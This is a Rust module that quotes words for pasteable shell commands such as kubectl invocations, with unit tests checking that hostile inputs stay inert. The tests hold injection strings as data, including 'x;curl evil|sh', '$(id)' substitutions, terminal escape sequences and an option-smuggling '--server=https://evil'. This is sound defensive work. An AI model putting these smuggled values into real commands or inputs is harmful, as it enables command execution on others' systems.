//! Commands for a shell, to be pasted as they are: their words come from clusters, routers and files, so each is quoted
//! by itself. Pure.

use serde_json::Value;

/// A command of these words.
pub fn command<T: AsRef<str>>(words: impl IntoIterator<Item = T>) -> String {
    words.into_iter().map(|text| word(text.as_ref())).collect::<Vec<_>>().join(" ")
}

/// One word for a POSIX shell: as it stands if no shell reads anything into it, else in single quotes.
pub fn word(text: &str) -> String {
    let text = one_line(text);
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._/:=@,%+-".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) { text } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

/// The name of an object, where an option could stand too: no name begins with a dash.
pub fn name(text: &str) -> &str {
    text.trim_start_matches(|c: char| c == '-' || c.is_control())
}

/// A string within JSON, with its quotes.
pub fn json(text: &str) -> String {
    Value::from(text).to_string()
}

/// Without what would end the line or move the cursor when it is pasted.
pub fn one_line(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_stand_as_they_are() {
        let words = ["kubectl", "-n", "home", "label", "service", "web", "bgp=on", "a.b/c-", "x:y@z,1%+_"];
        assert_eq!(command(words), words.join(" "));
        assert_eq!(command(["kubectl", "-p", r#"{"a":1}"#]), r#"kubectl -p '{"a":1}'"#);
    }

    #[test]
    fn no_word_ends_early() {
        for (text, quoted) in [
            ("", "''"),
            ("a b", "'a b'"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("~", "'~'"),
            ("it's", r"'it'\''s'"),
            ("';id;'", r"''\'';id;'\'''"),
            ("a\nid\r\u{1b}[A\u{9b}b", "'aid[Ab'"),
            ("\n", "''"),
            ("é", "'é'"),
        ] {
            assert_eq!(word(text), quoted, "{text:?}");
        }
    }

    #[test]
    fn a_name_is_no_option() {
        assert_eq!(name("--server=https://evil"), "server=https://evil");
        assert_eq!(name("\u{1}--server=x"), "server=x");
        assert_eq!(name("web-1"), "web-1");
    }

    #[test]
    fn a_string_stays_within_its_json() {
        assert_eq!(json("a\"},\n"), r#""a\"},\n""#);
    }
}
